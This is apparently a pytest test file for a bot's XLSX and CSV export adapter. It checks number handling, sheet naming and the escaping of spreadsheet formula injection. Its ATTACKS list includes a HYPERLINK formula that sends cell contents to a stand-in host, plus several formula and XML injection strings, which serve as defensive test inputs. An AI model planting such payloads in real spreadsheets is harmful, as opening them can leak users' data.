"""What is written is opened again: workbooks by openpyxl, CSV by the standard library."""

import csv
import io
import math
import re
import tempfile
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from bot.adapters import spreadsheets
from bot.adapters.spreadsheets import CELL_LIMIT, EXACT, write_csv, write_xlsx
from bot.core.tables import Cell, Column, Table

NOW = datetime(2026, 11, 24, 8, 30, tzinfo=UTC)
WINTER = timezone(timedelta(hours=1))
ATTACKS = (
    '=HYPERLINK("https://evil.example/?"&A2;"Ergebnis")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "https://evil.example",
    "<r></is></c><c><f>1+1</f></c><c><is></r>",
    "<r>bold</r>",
    "_x003D_1+1",
    "007",
    "1e5",
)
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def table(rows: Iterable[tuple[Cell, ...]], *titles: str, name: str = "7b") -> Table:
    return Table(name, tuple(Column(title) for title in titles or ("Text",)), rows)


def opened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(content: bytes) -> list[list[Any]]:
    """The cells under the header of the first sheet."""
    return [list(row) for row in opened(content).worksheets[0].iter_rows(min_row=2)]


def read(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def shown(cell: Any) -> str:
    """A text as Excel shows it; openpyxl leaves escapes in cells as they are."""
    return unescape(cell.value)


def test_a_sheet_has_a_header_numbers_and_times() -> None:
    moment = datetime(2026, 11, 24, 9, 30, 7, 123456, WINTER)
    titles = ("Name", "Antworten", "Anteil", "Zeit", "Notiz")
    book = opened(write_xlsx([table([("Mia", 7, 0.25, moment, None), ("Öztürk", -3, 1e-9, NOW, "")], *titles)], NOW))
    sheet = book["7b"]
    assert [cell.value for cell in sheet[1]] == list(titles)
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])
    assert [cell.value for cell in sheet[2]] == ["Mia", 7, 0.25, "2026-11-24T09:30:07+01:00", None]
    assert [cell.data_type for cell in sheet[2]][:4] == ["s", "n", "n", "s"]
    assert [cell.value for cell in sheet[3]][:4] == ["Öztürk", -3, 1e-9, "2026-11-24T08:30:00+00:00"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert book.properties.created == NOW.replace(tzinfo=None)


def test_columns_are_as_wide_as_asked() -> None:
    wide = Table("7b", (Column("Name", 40), Column("n", 5)), [])
    sheet = opened(write_xlsx([wide], NOW))["7b"]
    assert [round(sheet.column_dimensions[letter].width) for letter in "AB"] == [41, 6], "with the cell's padding"
    assert sheet.auto_filter.ref == "A1:B1", "a table without rows is a header"


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_becomes_a_formula_or_a_link(text: str) -> None:
    book = opened(write_xlsx([table([(text,)], text, name="7b")], NOW))
    for (cell,) in book["7b"].iter_rows():
        assert (shown(cell), cell.data_type, cell.hyperlink) == (text, "s", None)


@settings(deadline=None, max_examples=50)
@given(st.lists(st.text(), min_size=1, max_size=20))
@example(["\x00\x0b\ufffe\uffff\ud800", "a\r\nb\rc\n", "  x  ", "_x0041_", "\x85\u2028"])
def test_any_text_is_as_typed(texts: list[str]) -> None:
    for text, (cell,) in zip(texts, cells(write_xlsx([table((text,) for text in texts)], NOW)), strict=True):
        assert cell.data_type == "s"
        assert shown(cell) == FORBIDDEN.sub("\ufffd", text)


@settings(deadline=None, max_examples=50)
@given(st.integers(-EXACT, EXACT), st.floats(-1e300, 1e300))
def test_any_number_is_a_number(whole: int, broken: float) -> None:
    ((one, other),) = cells(write_xlsx([table([(whole, broken)], "a", "b")], NOW))
    assert (one.data_type, one.value) == ("n", whole)
    assert other.data_type == "n"
    assert other.value == pytest.approx(broken, rel=1e-15, abs=0)


@pytest.mark.parametrize(
    ("text", "length"),
    [("x" * 40_000, CELL_LIMIT), ("😀" * 20_000, CELL_LIMIT // 2 + 1), ("x" * CELL_LIMIT, CELL_LIMIT)],
)
def test_what_is_too_long_for_a_cell_is_cut(text: str, length: int) -> None:
    ((cell,),) = cells(write_xlsx([table([(text,)])], NOW))
    assert len(cell.value) == length
    assert (cell.value[-1] == "…") is (cell.value != text)
    assert len(cell.value.encode("utf-16-le")) // 2 <= CELL_LIMIT


def test_sheets_have_legal_names() -> None:
    names = ("Klasse [7b]: A/B\\C*?", "7B", "7b", "'7b'", "", "History", "x" * 40, "x" * 40, "😀" * 20, "\x00\n")
    book = opened(write_xlsx([table([], name=name) for name in names], NOW))
    assert book.sheetnames == [
        "Klasse  7b   A B C",
        "7B",
        "7b (2)",
        "7b (3)",
        "Table",
        "History (2)",
        "x" * 31,
        "x" * 27 + " (2)",
        "😀" * 15,
        "\ufffd",
    ]


@settings(deadline=None, max_examples=50)
@given(st.lists(st.text(max_size=40), max_size=12))
@example(["ß", "SS", "ẞ", "ss"])
def test_any_names_make_sheets(names: list[str]) -> None:
    book = opened(write_xlsx([table([("Mia",)], name=name) for name in names], NOW))
    assert len(book.sheetnames) == max(len(names), 1)
    assert all(0 < len(name.encode("utf-16-le")) // 2 <= 31 for name in book.sheetnames)


def test_the_same_makes_the_same_bytes() -> None:
    once, again = (write_xlsx([table([(text, 1) for text in ATTACKS], "a", "b")], NOW) for _ in range(2))
    assert once == again
    assert write_xlsx([table([])], NOW) != write_xlsx([table([])], NOW + timedelta(seconds=1))


def test_a_large_table_has_all_its_rows() -> None:
    rows = ((number, f"Antwort {number}", "=1+1", number / 7, NOW) for number in range(50_000))
    content = write_xlsx([table(rows, "n", "Antwort", "Text", "Anteil", "Zeit")], NOW)
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    assert (sheet.max_row, sheet.max_column) == (50_001, 5)
    assert next(sheet.iter_rows(min_row=50_001, max_col=3, values_only=True)) == (49_999, "Antwort 49999", "=1+1")


REFUSED: list[tuple[Cell, ...]] = [
    (math.nan,),
    (math.inf,),
    (-math.inf,),
    (NOW.replace(tzinfo=None),),
    ("one", "too many"),
    (),
]


@pytest.mark.parametrize("row", REFUSED)
def test_what_cannot_be_written_is_refused(row: tuple[Cell, ...]) -> None:
    with pytest.raises(ValueError, match=r"finite|offset|cells under"):
        write_xlsx([table([("fine",), row])], NOW)
    with pytest.raises(ValueError, match=r"finite|offset|cells under"):
        write_csv(table([("fine",), row]))


def test_a_workbook_keeps_every_digit_or_refuses() -> None:
    with pytest.raises(ValueError, match="digits"):
        write_xlsx([table([(EXACT + 1,)])], NOW)
    assert read(write_csv(table([(EXACT + 1,)])))[1] == ["9007199254740993"]


def test_a_sheet_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "ROW_LIMIT", 3)
    assert len(cells(write_xlsx([table([("a",), ("b",)])], NOW))) == 2
    with pytest.raises(ValueError, match="at most 3 rows"):
        write_xlsx([table([("a",), ("b",), ("c",)])], NOW)


def test_nothing_stays_in_the_folder_for_temporary_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    seen: list[list[Path]] = []

    def rows() -> Iterator[tuple[Cell, ...]]:
        yield ("Mia",)
        seen.append(list(tmp_path.iterdir()))
        yield (math.nan,)

    with pytest.raises(ValueError, match="finite"):
        write_xlsx([table(rows())], NOW)
    assert len(seen[0]) == 1, "rows on their way"
    assert list(tmp_path.iterdir()) == []


def test_csv_is_as_the_standard_has_it() -> None:
    content = write_csv(table([('say "hi", Mia\r\nand go', 7, 0.1, NOW, None), ("ä", -3, True, NOW, "")], *"abcde"))
    assert content.decode("utf-8-sig") == (
        "a,b,c,d,e\r\n"
        '"say ""hi"", Mia\r\nand go",7,0.1,2026-11-24T08:30:00+00:00,\r\n'
        "ä,-3,1,2026-11-24T08:30:00+00:00,\r\n"
    )


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1", "'+49 30 1"),
        ("-1", "'-1"),
        ("@home", "'@home"),
        ("\t=1+1", "'\t'=1+1"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("first;=1+1", "first;'=1+1"),
        ('first;"=1+1"', 'first;"\'=1+1"'),
        ("first\n=1+1", "first\n'=1+1"),
        ("a = b; c - d", "a = b; c - d"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_csv_keeps_texts_harmless(text: str, written: str) -> None:
    assert read(write_csv(table([(text, -1)], text or "x", "b"))) == [[written or "x", "b"], [written, "-1"]]


@settings(deadline=None, max_examples=50)
@given(st.lists(st.tuples(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)), max_size=20))
def test_any_csv_is_read_back(rows: list[tuple[str, int, float]]) -> None:
    _, *found = read(write_csv(table(rows, "a", "b", "c")))
    for (text, whole, broken), (one, two, three) in zip(rows, found, strict=True):
        assert one.replace("'", "") == FORBIDDEN.sub("\ufffd", text).replace("'", "")
        assert not one.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert (int(two), float(three)) == (whole, broken)
